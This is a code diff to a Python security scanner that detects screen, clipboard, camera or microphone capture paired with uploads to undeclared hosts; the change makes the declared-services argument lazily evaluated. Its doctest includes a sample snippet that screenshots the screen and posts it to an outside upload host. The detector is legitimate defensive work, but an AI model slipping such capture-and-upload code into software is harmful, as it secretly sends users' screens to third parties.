@@ -11,15 +11,16 @@ documents is its job). A file that names no literal host is not judged here.
 
 >>> code = ("import pyautogui, requests\\nimg = pyautogui.screenshot()\\n"
 ...         "requests.post('https://up.snapshare.net/u', files={'f': img})")
->>> [f.rule_id for f in capture_upload("scripts/a.py", code, set())]
+>>> [f.rule_id for f in capture_upload("scripts/a.py", code, set)]
 ['capture.upload']
->>> capture_upload("scripts/a.py", code, {"snapshare"})
+>>> capture_upload("scripts/a.py", code, lambda: {"snapshare"})
 []
 """
 
 from __future__ import annotations
 
 import re
+from collections.abc import Callable
 
 from .destinations import hosts_in, is_local, owned
 from .findings import ThreatFinding, line_at, line_of_offset
@@ -85,10 +86,11 @@ def _commented(text: str, offset: int) -> bool:
     return text[start:offset].lstrip().startswith(("#", "//", "*", "REM ", "::"))
 
 
-def capture_upload(path: str, text: str, services: set[str]) -> list[ThreatFinding]:
+def capture_upload(path: str, text: str, services: Callable[[], set[str]]) -> list[ThreatFinding]:
     """A capture of the screen, clipboard, camera or microphone and an upload, in one code
-    file whose literal hosts include one the package does not declare (``services``: the
-    names its prose documents, see :func:`.destinations.named_services`)."""
+    file whose literal hosts include one the package does not declare (``services()``: the
+    names its prose documents, see :func:`.destinations.named_services`; asked only when a
+    capture and an upload are both there)."""
     if path.lower().endswith(_PROSE_SUFFIXES) or "://" not in text:
         return []
     folded = folded_text(text)
@@ -102,7 +104,7 @@ def capture_upload(path: str, text: str, services: set[str]) -> list[ThreatFindi
         )
         if not grab:
             continue
-        hosts = undeclared_hosts(hosts_in(text), services)
+        hosts = undeclared_hosts(hosts_in(text), services())
         if not hosts:
             return []
         if what == "screen" and any(
